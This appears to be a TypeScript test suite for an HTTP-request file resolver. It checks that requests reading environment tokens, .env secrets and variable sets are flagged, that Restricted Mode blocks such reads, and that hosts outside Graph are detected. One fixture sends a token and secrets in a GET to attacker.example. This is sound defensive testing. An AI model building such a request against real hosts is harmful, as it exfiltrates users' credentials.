import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { parseHttpFile } from '../../../src/core/http/parser';
import { describeValueSources, foreignHost, recordingSources, withoutMachineReads, type ValueSource } from '../../../src/core/http/valueSources';
import { resolveRequest, type SystemVariableProvider } from '../../../src/core/http/variables';

const machine: SystemVariableProvider = {
  now: () => 0, random: () => 0.5, guid: () => 'g-1',
  processEnv: name => (name === 'GRAPH_ACCESS_TOKEN' ? 'opaque-token' : undefined),
  dotenv: name => (name === 'KEY' ? 'dotenv-secret' : undefined),
};

function resolve(text: string, options: { environment?: Record<string, string>; system?: SystemVariableProvider } = {}) {
  const file = parseHttpFile(text);
  const sources = new Set<ValueSource>();
  const resolved = resolveRequest(file, file.requests[0], {
    environment: options.environment ?? {}, system: recordingSources(options.system ?? machine, sources), onEnvironmentValue: () => sources.add('variableSet'),
  });
  return { resolved, sources: [...sources].sort() };
}

describe('where substituted values come from', () => {
  test('a hostile file that reads the machine and the user\'s variable sets is noticed', () => {
    const { resolved, sources } = resolve('@t = {{$processEnv GRAPH_ACCESS_TOKEN}}\nGET https://attacker.example/c?t={{t}}&k={{apiKey}}\nX-Key: {{$dotenv KEY}}\n', { environment: { apiKey: 'from-settings' } });
    assert.equal(resolved.url, 'https://attacker.example/c?t=opaque-token&k=from-settings');
    assert.deepEqual(sources, ['dotenv', 'processEnv', 'variableSet']);
  });

  test('file variables, $guid and a variable set name shadowed by the file are not such values', () => {
    const { sources } = resolve('@apiKey = local\nGET https://example.test/{{$guid}}?k={{apiKey}}&e={{$processEnv NOPE}}\n', { environment: { apiKey: 'from-settings' } });
    assert.deepEqual(sources, []);
  });

  test('Restricted Mode: $processEnv and $dotenv stay unresolved; the clock and dice still work', () => {
    const { resolved } = resolve('GET https://example.test/{{$guid}}?t={{$processEnv GRAPH_ACCESS_TOKEN}}\nX: {{$dotenv KEY}}\n', { system: withoutMachineReads(machine) });
    assert.equal(resolved.url, 'https://example.test/g-1?t={{$processEnv GRAPH_ACCESS_TOKEN}}');
    assert.deepEqual(resolved.unresolved.sort(), ['$dotenv KEY', '$processEnv GRAPH_ACCESS_TOKEN']);
    assert.doesNotMatch(JSON.stringify(resolved), /opaque-token|dotenv-secret/);
  });

  test('foreignHost: Graph (absolute, path-only, rewritten to the sandbox) is not foreign; anything else is, by host and port', () => {
    const graph = 'https://graph.microsoft.com';
    assert.equal(foreignHost('https://graph.microsoft.com/beta/me', graph, graph), undefined);
    assert.equal(foreignHost('/beta/me', graph, graph), undefined);
    assert.equal(foreignHost('graph.microsoft.com/beta/me', graph, graph), undefined);
    assert.equal(foreignHost('https://graph.microsoft.com/beta/me', 'http://127.0.0.1:4000', graph), undefined);
    assert.equal(foreignHost('https://graph.microsoft.com.evil.example/beta', graph, graph), 'graph.microsoft.com.evil.example');
    assert.equal(foreignHost('http://127.0.0.1:9/c', graph, graph), '127.0.0.1:9');
    assert.equal(foreignHost('https://graph.microsoft.com:8443/beta', graph, graph), 'graph.microsoft.com:8443');
  });

  test('the sources read as a sentence', () => {
    assert.equal(describeValueSources(['processEnv']), 'environment variables ($processEnv)');
    assert.match(describeValueSources(['variableSet', 'processEnv', 'dotenv']), /^the \.env file \(\$dotenv\), environment variables \(\$processEnv\) and your variable sets/);
  });
});
